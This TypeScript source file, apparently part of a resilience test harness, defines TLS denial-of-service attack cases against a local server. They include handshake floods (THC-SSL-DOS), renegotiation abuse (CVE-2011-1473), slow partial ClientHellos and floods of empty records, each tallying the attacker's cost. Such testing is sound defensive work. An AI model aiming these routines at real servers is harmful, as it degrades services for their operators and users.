import { connect } from 'node:tls';
import { type Attack } from '../attack';

/** A ClientHello's first bytes: a record that says how long it is, and never gets there. */
const HELLO = Buffer.from([0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]);

/** What TLS costs before anyone is known. */
export const TLS: readonly Attack[] = [
  {
    name: 'handshakes',
    known: 'THC-SSL-DOS',
    target: 'tls',
    run: async (attacker) => {
      for (let i = 0; i < 5; i++)
        await Promise.all(
          Array.from({ length: 10 }, async () => {
            const socket = connect({ port: attacker.port, host: '127.0.0.1', rejectUnauthorized: false, session: undefined });
            socket.on('error', () => undefined);
            await new Promise<void>((done) => socket.once('secureConnect', done).once('close', () => done()));
            attacker.count(socket.bytesWritten + 40 * 4, 1);
            socket.destroy();
          }),
        );
    },
  },
  {
    name: 'renegotiations',
    known: 'CVE-2011-1473',
    target: 'tls',
    run: async (attacker) => {
      for (let i = 0; i < 5; i++) {
        const socket = connect({ port: attacker.port, host: '127.0.0.1', rejectUnauthorized: false, maxVersion: 'TLSv1.2' });
        socket.setMaxListeners(0);
        socket.on('error', () => undefined);
        await new Promise<void>((done) => socket.once('secureConnect', done).once('close', () => done()));
        for (let again = 0; again < 20 && !socket.destroyed; again++)
          await new Promise<void>((done) => {
            const late = setTimeout(done, 200);
            socket.once('close', () => done());
            if (socket.renegotiate({}, () => (clearTimeout(late), done())) !== true) done();
          });
        attacker.count(socket.bytesWritten + 40 * 8, 1);
        socket.destroy();
      }
    },
  },
  {
    name: 'handshakes, slowly',
    target: 'tls',
    run: async (attacker) => {
      const clients = await Promise.all(Array.from({ length: 100 }, () => attacker.connect()));
      for (const client of clients) await client.send(HELLO);
      for (let round = 0; round < 20; round++) {
        for (const client of clients) await client.send(Buffer.from([round]));
        await new Promise((done) => setTimeout(done, 10));
      }
    },
  },
  {
    name: 'no TLS at all',
    target: 'tls',
    run: (attacker) =>
      attacker.flood(
        () => attacker.connect(),
        () => Buffer.from('GET / HTTP/1.1\r\nhost: a\r\n\r\n'),
      ),
  },
  {
    name: 'records of nothing',
    target: 'tls',
    run: (attacker) =>
      attacker.flood(
        () => attacker.connect(),
        (_client, i) => (i === 0 ? HELLO.subarray(0, 5) : Buffer.alloc(100)),
      ),
  },
];
